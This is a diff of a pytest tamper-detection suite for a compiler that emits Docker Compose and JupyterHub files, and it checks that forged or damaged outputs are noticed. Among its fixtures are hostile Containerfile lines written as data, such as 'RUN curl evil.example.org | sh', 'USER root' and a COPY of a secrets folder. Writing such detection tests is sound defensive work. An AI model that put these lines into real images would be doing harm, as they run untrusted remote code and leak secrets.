@@ -10,38 +10,58 @@ from typing import Any
 import pytest
 
 from lego_compile.emit import yaml
+from lego_compile.hashing import sha256
 from lego_compile.targets.compose import TARGET
-from lego_compile.targets.compose.digest import CONFIG_LABEL, config_digest
+from lego_compile.targets.compose.files import CONFIG_LABEL, EDGE_READS, HUB_READS, config_digest
 from tests.strategies import example
-from tests.targets.compose.samples import compiled, oauth_options, projected
+from tests.targets.compose.samples import MOUNTS, compiled, mounted, oauth_options, projected
 
 CHOSEN = oauth_options(groups_claim="groups")
 DEPLOYMENT = projected(example())
-GOLDEN = compiled(DEPLOYMENT, CHOSEN)
-TREES = {
-    "composition.json": json.loads(GOLDEN["composition.json"]),
-    "compose.yaml": {**TARGET.lower(DEPLOYMENT, CHOSEN)["compose.yaml"]},
-}
-WRITERS: dict[str, Callable[[Any], str]] = {"composition.json": json.dumps, "compose.yaml": yaml.dump}
 
 
-def noticed(files: dict[str, bytes]) -> bool:
-    """Whether reading the files back gives something else than went in."""
-    lifted = TARGET.lift(files)
-    return bool(lifted.complaints) or lifted.deployment != DEPLOYMENT or lifted.options != CHOSEN
+class Golden:
+    """What is damaged: the files of one way to mount bricks.
+
+    Attributes:
+        deployment: that went in.
+        options: likewise.
+        files: that came out.
+        trees: the same as data, by file; labels of files are not filled in.
+    """
+
+    def __init__(self, mounts: str, engine: str = "docker") -> None:
+        self.deployment, self.options = mounted(DEPLOYMENT, CHOSEN, mounts, engine)
+        self.files = compiled(self.deployment, self.options)
+        trees = TARGET.lower(self.deployment, self.options)
+        self.trees = {name: tree for name, tree in trees.items() if not isinstance(tree, str)}
+
+    def noticed(self, files: dict[str, bytes]) -> bool:
+        """Whether reading the files back gives something else than went in."""
+        lifted = TARGET.lift(files)
+        return (
+            bool(lifted.complaints) or lifted.deployment != self.deployment or lifted.options != self.options
+        )
+
+    def with_tree(self, file: str, tree: Any) -> dict[str, bytes]:
+        """The files with another tree in one of them, and labels that agree with it, as a forger would."""
+        files = {**self.files, file: WRITERS[file](tree).encode()}
+        compose = copy.deepcopy(tree if file == "compose.yaml" else self.trees["compose.yaml"])
+        for service, names in (("edge", EDGE_READS), ("hub", HUB_READS)):
+            node: Any = compose
+            for key in ("services", service, "labels"):
+                node = node.get(key) if isinstance(node, dict) else None
+            if node == {}:
+                node[CONFIG_LABEL] = config_digest(files, names)
+        return {**files, "compose.yaml": yaml.dump(compose).encode()}
 
 
-def with_tree(file: str, tree: Any) -> dict[str, bytes]:
-    """The golden files with another tree in one of them, and labels that agree with it, as a forger would."""
-    files = {**GOLDEN, file: WRITERS[file](tree).encode()}
-    compose = copy.deepcopy(tree if file == "compose.yaml" else TREES["compose.yaml"])
-    for service, names in (("edge", ["Caddyfile"]), ("hub", ["composition.json", "jupyterhub_config.py"])):
-        node: Any = compose
-        for key in ("services", service, "labels"):
-            node = node.get(key) if isinstance(node, dict) else None
-        if node == {}:
-            node[CONFIG_LABEL] = config_digest({name: files[name] for name in names})
-    return {**files, "compose.yaml": yaml.dump(compose).encode()}
+WRITERS: dict[str, Callable[[Any], str]] = {
+    "composition.json": json.dumps, "compose.yaml": yaml.dump, "compose.lab.yaml": yaml.dump,
+}  # fmt: skip
+GOLDENS = {**{mounts: Golden(mounts) for mounts in MOUNTS}, "podman": Golden("image", "podman")}
+GOLDEN, TREES = GOLDENS["image"].files, GOLDENS["image"].trees
+noticed, with_tree = GOLDENS["image"].noticed, GOLDENS["image"].with_tree
 
 
 def places(node: Any, at: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
@@ -87,21 +107,38 @@ def _null(node: Any, key: Any) -> None:
 
 @pytest.mark.parametrize("change", [_other, _drop, _null], ids=["other", "drop", "null"])
 @pytest.mark.parametrize("file", TREES)
-def test_every_node_matters(file: str, change: Callable[[Any, Any], None]) -> None:
-    """To change, drop or empty any node of either file is noticed, even when the labels agree with it."""
-    tree = TREES[file]
+@pytest.mark.parametrize("mounts", GOLDENS)
+def test_every_node_matters(mounts: str, file: str, change: Callable[[Any, Any], None]) -> None:
+    """To change, drop or empty any node of a file is noticed, even when the labels agree with it."""
+    golden = GOLDENS[mounts]
+    tree = golden.trees.get(file, {})
+    passed_over = {("services", "edge", "labels"), ("services", "hub", "labels")}
+    if mounts != "image":  # what is as with image mounts is damaged there
+        passed_over |= {at for at in places(tree) if _at(TREES[file], at) == _at(tree, at)}
     survivors = [
         at
         for at in places(tree)
-        if at[-1] != "labels" and not noticed(with_tree(file, damaged(tree, at, change)))
+        if at not in passed_over and not golden.noticed(golden.with_tree(file, damaged(tree, at, change)))
     ]
     assert survivors == []
 
 
+def _at(node: Any, at: tuple[Any, ...]) -> Any:
+    """What is at a place; the place itself where there is none."""
+    for key in at:
+        inside = key in node if isinstance(node, dict) else isinstance(node, list) and key < len(node)
+        if not inside:
+            return at
+        node = node[key]
+    return node
+
+
 def test_the_undamaged_is_silent() -> None:
     """Without damage nothing is noticed, so the tests of this file can fail."""
-    assert not noticed(GOLDEN)
-    assert not noticed(with_tree("composition.json", TREES["composition.json"]))
+    for golden in GOLDENS.values():
+        assert not golden.noticed(golden.files)
+        for file, tree in golden.trees.items():
+            assert not golden.noticed(golden.with_tree(file, tree))
 
 
 def _in_composition(change: Callable[[Any], None]) -> dict[str, bytes]:
@@ -169,7 +206,7 @@ DAMAGES: dict[str, dict[str, bytes]] = {
         **GOLDEN, "compose.yaml": GOLDEN["compose.yaml"].replace(b"vre.grenoble.example.org", b"${HOST}", 1)
     },
     "the guard weakened": {
-        **GOLDEN, "jupyterhub_config.py": GOLDEN["jupyterhub_config.py"].replace(b"exit 78", b":")
+        **GOLDEN, "guard.sh": GOLDEN["guard.sh"].replace(b"exit 78", b":")
     },
     "containers kept": {
         **GOLDEN, "jupyterhub_config.py": GOLDEN["jupyterhub_config.py"].replace(b"remove = True", b"remove = False")
@@ -178,6 +215,68 @@ DAMAGES: dict[str, dict[str, bytes]] = {
     "a file more": {**GOLDEN, "compose.override.yaml": b"services: {}\n"},
     **{f"no {name}": {path: data for path, data in GOLDEN.items() if path != name} for name in GOLDEN},
 }  # fmt: skip
+
+
+OCEAN = "baked/ocean/Containerfile"
+
+
+def _called_after(data: bytes) -> dict[str, bytes]:
+    """Another Containerfile, with its sum in every place that has it, as a forger would."""
+    golden = GOLDENS["baked"]
+    old, new = (sha256(each)[:12].encode() for each in (golden.files[OCEAN], data))
+    files = {name: each.replace(old, new) for name, each in golden.files.items()}
+    files[OCEAN] = data
+    labels = [config_digest(each, HUB_READS).encode() for each in (golden.files, files)]
+    return {**files, "compose.yaml": files["compose.yaml"].replace(*labels)}
+
+
+def _lines(change: Callable[[list[bytes]], None]) -> bytes:
+    lines = GOLDENS["baked"].files[OCEAN].split(b"\n")
+    change(lines)
+    return b"\n".join(lines)
+
+
+BAKED: dict[str, bytes] = {
+    "a brick less": _lines(lambda lines: lines.pop(2)),
+    "a brick twice": _lines(lambda lines: lines.insert(2, lines[2])),
+    "a program that runs": _lines(lambda lines: lines.insert(3, b"RUN curl evil.example.org | sh")),
+    "another user": _lines(lambda lines: lines.insert(3, b"USER root")),
+    "a file of the folder": _lines(lambda lines: lines.insert(3, b"COPY ../../secrets /secrets/")),
+    "a tag instead of a digest": _lines(lambda lines: lines.__setitem__(1, lines[1].partition(b"@")[0])),
+    "another digest": _lines(lambda lines: lines.__setitem__(2, lines[2].replace(b"@sha256:", b"@sha256:0")[:-1])),
+    "another prefix": _lines(lambda lines: lines.__setitem__(2, lines[2].replace(b" /opt/bricks/", b" /opt/other/"))),
+    "a part of the brick": _lines(lambda lines: lines.__setitem__(2, lines[2].replace(b" / ", b" /lib/ "))),
+    "another reader of the file": _lines(lambda lines: lines.insert(0, b"# syntax=evil.example.org/dockerfile")),
+    "another end of a line": _lines(lambda lines: lines.insert(0, b"# escape=`")),
+    "nothing": b"",
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", BAKED)
+def test_damages_of_a_containerfile(name: str) -> None:
+    """What else could be in an image is noticed, be it called after its file or not."""
+    golden = GOLDENS["baked"]
+    assert golden.noticed({**golden.files, OCEAN: BAKED[name]})
+    assert golden.noticed(_called_after(BAKED[name]))
+
+
+def test_a_comment_needs_another_name() -> None:
+    """Even a comment makes it another file, and only a forger's names agree with it."""
+    golden, data = GOLDENS["baked"], GOLDENS["baked"].files[OCEAN] + b"# a remark\n"
+    assert golden.noticed({**golden.files, OCEAN: data})
+    assert not golden.noticed(_called_after(data))
+
+
+@pytest.mark.parametrize("mounts", GOLDENS)
+def test_files_of_every_way_to_mount(mounts: str) -> None:
+    """A file less, a file that is another one, and a file of another way are noticed."""
+    golden = GOLDENS[mounts]
+    for name, data in golden.files.items():
+        assert golden.noticed({path: each for path, each in golden.files.items() if path != name}), name
+        assert golden.noticed({**golden.files, name: data + b"x"}), name
+    for other in GOLDENS.values():
+        for name in other.files.keys() - golden.files.keys():
+            assert golden.noticed({**golden.files, name: other.files[name]}), name
 
 
 @pytest.mark.parametrize("name", DAMAGES)
